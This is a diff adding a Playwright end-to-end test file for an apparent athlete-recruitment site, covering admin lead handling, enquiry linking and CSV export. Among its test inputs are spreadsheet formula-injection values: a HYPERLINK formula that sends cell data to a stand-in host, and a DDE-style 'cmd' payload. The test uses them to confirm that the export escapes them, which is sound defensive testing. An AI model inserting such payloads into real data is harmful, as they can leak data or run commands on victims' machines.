@@ -1,0 +1,241 @@
+import {
+  exportPaths,
+  type ApplicationInput,
+  type ApplicationWire,
+  type GolferWire,
+  type LeadSummaryWire,
+  paths,
+} from '@site/contract';
+import type { Page } from '@playwright/test';
+import ExcelJS from 'exceljs';
+import { createReadStream } from 'node:fs';
+import { openScreen } from '../fixtures/adminScreens';
+import { callApi, sendLead } from '../fixtures/api';
+import { pressByKeyboard, tabTo } from '../fixtures/keyboard';
+import { expectAlive } from '../fixtures/pageChecks';
+import { admin, type TestSite } from '../fixtures/siteFixture';
+import { expect, test } from '../fixtures/test';
+
+test.use({ contextOptions: { reducedMotion: 'reduce' } });
+test.beforeEach(({ signInAsAdmin }) => signInAsAdmin());
+
+const region = (page: Page, name: string) => page.getByRole('region', { name, exact: true });
+
+test('with the keyboard alone an admin finds a lead that has just come in, works it, and answers', async ({
+  page,
+  site,
+  complaints,
+}) => {
+  const family = {
+    name: 'Keziah Tabler',
+    email: 'keziah@tabler.example',
+    message: 'Sport: Golf\nContact number: 020 7946 0789\nAbout: She plays off six.',
+  };
+  const button = (name: string) => page.getByRole('button', { name, exact: true });
+  await page.clock.install();
+  await openScreen(page, paths.adminLeads.to());
+  const search = page.getByLabel('Search leads');
+  await tabTo(page, search);
+  await page.keyboard.type('keziah');
+  await expect(page.getByText('No leads match your search.')).toBeVisible();
+  await sendLead(site, 'applications', family);
+  // Open lists ask every half minute.
+  await page.clock.fastForward('00:31');
+  await expect(page.getByText('1 lead', { exact: true })).toBeVisible();
+  await expect(search).toBeFocused();
+
+  await pressByKeyboard(page, page.getByRole('link', { name: family.name, exact: true }));
+  await expect(page.getByRole('heading', { level: 1, name: family.name })).toBeFocused();
+  await expect(page.getByRole('link', { name: `Call ${family.name}` })).toHaveAttribute(
+    'href',
+    'tel:02079460789',
+  );
+  await pressByKeyboard(page, button('Call booked'));
+  await expect(page.getByRole('button', { name: 'Call booked', pressed: true })).toBeFocused();
+  const people = region(page, 'Looked after by');
+  await pressByKeyboard(page, people.getByRole('button', { name: 'Me', exact: true }));
+  await expect(people.getByRole('button', { name: 'Me', exact: true, pressed: true })).toBeVisible();
+  await tabTo(page, page.getByLabel('What comes next', { exact: true }));
+  await page.keyboard.type('Call her mother');
+  // A day has three parts in the order of the locale.
+  await page.getByLabel('By', { exact: true }).fill('2025-12-03');
+  await page.keyboard.press('Enter');
+  await tabTo(page, page.getByLabel('New note', { exact: true }));
+  await page.keyboard.type('She asked for the evening.');
+  await pressByKeyboard(page, button('Add note'));
+  await expect(region(page, 'Notes').getByRole('listitem')).toContainText([admin.email]);
+  await expect(region(page, 'History').getByRole('listitem')).toContainText([
+    'Added a note',
+    'Next step: Call her mother (by 3 Dec 2025)',
+    `Given to ${admin.email}`,
+    'Moved from New to Call booked',
+  ]);
+
+  const reply = region(page, 'Reply');
+  await pressByKeyboard(page, reply.getByRole('button', { name: 'Thank you, let us talk', exact: true }));
+  await expect(reply.getByLabel('Your reply', { exact: true })).toHaveValue(/^Dear Keziah,/);
+  await tabTo(page, reply.getByLabel('Your reply', { exact: true }));
+  await page.keyboard.press('Control+End');
+  await page.keyboard.type(' Maya');
+  // The site of the journeys has no mail server: this is the last step of a reply.
+  await expect(reply.getByText(/^No mail server is set up/)).toBeVisible();
+  const program = reply.getByRole('link', { name: 'Open in my mail program', exact: true });
+  await tabTo(page, program);
+  await expect(program).toHaveAttribute('href', /^mailto:keziah@tabler\.example\?subject=.*%20Maya$/);
+
+  await pressByKeyboard(page, page.getByRole('link', { name: 'All leads', exact: true }));
+  await pressByKeyboard(page, button('Leave'));
+  await expect(page.getByRole('heading', { level: 1, name: 'Leads', exact: true })).toBeFocused();
+  await page.getByRole('link', { name: /^Call booked/ }).press('Enter');
+  await expect(page).toHaveURL(/\?state=call_booked$/);
+  const filters = page.getByRole('navigation', { name: 'More filters' });
+  for (const name of ['Applications', 'Mine', 'Next step due']) {
+    await filters.getByRole('link', { name }).press('Enter');
+    await expect(filters.getByRole('link', { name })).toHaveAttribute('aria-current', 'true');
+  }
+  await expect(page).toHaveURL(/state=call_booked&kind=application&assignee=me&due=today$/);
+  await expect(page.getByRole('row', { name: family.name })).toContainText('Call her mother · 3 Dec 2025');
+  await filters.getByRole('link', { name: 'Messages' }).press('Enter');
+  await expect(page.getByText('No leads match these choices.')).toBeVisible();
+  expect(complaints).toEqual([]);
+});
+
+async function write(page: Page, name: string): Promise<void> {
+  await page.getByLabel('Name', { exact: true }).fill(name);
+  await page.getByLabel('Email', { exact: true }).fill('quill@family.example');
+  await page.getByLabel('Message', { exact: true }).fill('May we talk about your athlete?');
+  await page.getByRole('button', { name: 'Send message' }).click();
+  await expect(page.getByText('Your message has been sent successfully!')).toBeVisible();
+}
+
+async function sourceOf(site: TestSite, name: string): Promise<unknown> {
+  const found = await callApi(site, `GET /leads?q=${encodeURIComponent(name)}`);
+  return ((await found.json()) as LeadSummaryWire[]).map(({ source }) => source);
+}
+
+test('a family asks about an athlete in three ways; the admin reads about whom, and that it is one person', async ({
+  page,
+  browser,
+  baseURL,
+  site,
+  complaints,
+}) => {
+  const [golfer] = (await (await callApi(site, 'GET /golfers?limit=1')).json()) as [GolferWire];
+  const name = `${golfer.first_name} ${golfer.last_name}`;
+  const profile = paths.golfer.to(golfer.slug);
+  const ask = (visitor: Page) =>
+    visitor
+      .getByRole('main')
+      .getByRole('link', { name: /^Ask about/ })
+      .first()
+      .click();
+  const context = await browser.newContext({ baseURL });
+  const family = await context.newPage();
+  await family.goto(profile);
+  await expectAlive(family);
+  await ask(family);
+  await expect(family).toHaveURL(`/contact?about=${golfer.slug}`);
+  await expect(family.getByText(`Your message is about ${name}.`)).toBeVisible();
+  await write(family, 'Juniper Quill');
+  // As a link loads a document where the application does not run yet.
+  await family.goto('/contact', { referer: `${baseURL}${profile}` });
+  await expectAlive(family);
+  await write(family, 'Rowan Quill');
+  await context.close();
+
+  // Without scripts the form itself tells, also after it was refused.
+  const plain = await browser.newContext({ baseURL, javaScriptEnabled: false });
+  const reader = await plain.newPage();
+  await reader.goto(profile);
+  await ask(reader);
+  await reader.getByRole('button', { name: 'Send message' }).click();
+  await expect(reader.getByRole('group', { name: 'There is a problem' })).toBeVisible();
+  await write(reader, 'Hazel Quill');
+  await plain.close();
+  for (const who of ['Rowan Quill', 'Hazel Quill'])
+    expect(await sourceOf(site, who)).toEqual([{ kind: 'golfer', id: golfer.id, name }]);
+
+  await openScreen(page, `${paths.adminLeads.to()}?q=juniper`);
+  await expect(page.getByText('2 more of this person', { exact: true })).toBeVisible();
+  await page.getByRole('link', { name: 'Juniper Quill', exact: true }).click();
+  const others = page.getByRole('region', { name: 'More of this person' });
+  await expect(others.getByRole('link', { name: /^Message of .* from Rowan Quill$/ })).toBeVisible();
+  await page.getByRole('link', { name: `From ${name}’s profile`, exact: true }).click();
+  const first = page.getByRole('dialog').getByLabel('First name', { exact: true });
+  await expect(first).toHaveValue(golfer.first_name);
+  expect(complaints).toEqual([]);
+});
+
+const LETTERS: readonly (Pick<ApplicationInput, 'name' | 'email' | 'message'> & { grad_year?: number })[] = [
+  { name: 'نور الهدى', email: 'noor@letters.example', message: 'مرحبا، ابنتي تلعب الغولف.\nسطر ثان' },
+  {
+    name: 'Zoë 🏌️‍♀️ O’Hara',
+    email: 'zoe@letters.example',
+    message: 'She says "hello", twice; 👨‍👩‍👧',
+    grad_year: 2027,
+  },
+  {
+    name: '=HYPERLINK("https://x.example?"&A1,"click")',
+    email: 'formula@letters.example',
+    message: '=1+1\r\n+2\r\n\r\nthird line',
+  },
+  { name: '@SUM(A1:A9)', email: '+plus@letters.example', message: "-2+3+cmd|' /C calc'!A0" },
+  { name: '山田 太郎', email: 'taro@letters.example', message: 'first, second\tthird\n\n\nlast' },
+];
+
+/** The rows as a spreadsheet shows them. */
+async function readRows(file: string): Promise<string[][]> {
+  // Every cell as text: exceljs would turn numeric text into a number.
+  const sheet = await new ExcelJS.Workbook().csv.read(createReadStream(file), {
+    map: (text: string) => text,
+  });
+  const rows: string[][] = [];
+  // Cells count from 1.
+  sheet.eachRow((row) => rows.push((row.values as string[]).slice(1)));
+  return rows;
+}
+
+/** docs/product.md#csv-content: text that a spreadsheet would take for a formula starts with an apostrophe. */
+const asText = (text: string): string => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
+
+test('an admin reads an application as it was typed, and a spreadsheet has every character of all', async ({
+  page,
+  context,
+  request,
+  site,
+}) => {
+  for (const letter of LETTERS) await sendLead(site, 'applications', letter);
+  await page.clock.install();
+  await openScreen(page, paths.adminApplications.to());
+  const { name, message } = LETTERS[4]!;
+  const read = page.getByRole('button', { name: `Read message from ${name}` });
+  await read.click();
+  const dialog = page.getByRole('dialog', { name: `Message from ${name}` });
+  // The list has only its beginning: the rest is fetched.
+  await expect.poll(() => dialog.getByRole('definition').last().innerText()).toBe(message);
+  await page.keyboard.press('Escape');
+  await expect(read).toBeFocused();
+
+  // The screen has been open for an hour.
+  await context.clearCookies();
+  await page.clock.fastForward('01:00:00');
+  const [download] = await Promise.all([
+    // Playwright reports it for the file's own tab or for this one, whichever it knows at that moment.
+    context.waitForEvent('download'),
+    page.getByRole('button', { name: 'Export CSV' }).click(),
+  ]);
+  expect(download.url()).toBe(site.origin + exportPaths.applications);
+  expect(download.suggestedFilename()).toMatch(/^applications-\d{4}-\d\d-\d\d\.csv$/);
+  const [head, ...rows] = await readRows(await download.path());
+  const stored = (await (await callApi(site, 'GET /applications')).json()) as ApplicationWire[];
+  expect(head).toEqual(['name', 'email', 'grad_year', 'message', 'created_at']);
+  expect(rows).toEqual(
+    stored.map((row) =>
+      [row.name, row.email, String(row.grad_year ?? ''), row.message, row.created_at].map(asText),
+    ),
+  );
+  expect(stored.slice(0, LETTERS.length).map((row) => row.name)).toEqual(
+    LETTERS.map((letter) => letter.name).toReversed(),
+  );
+  expect((await request.get(site.origin + exportPaths.applications)).status()).toBe(401);
+});
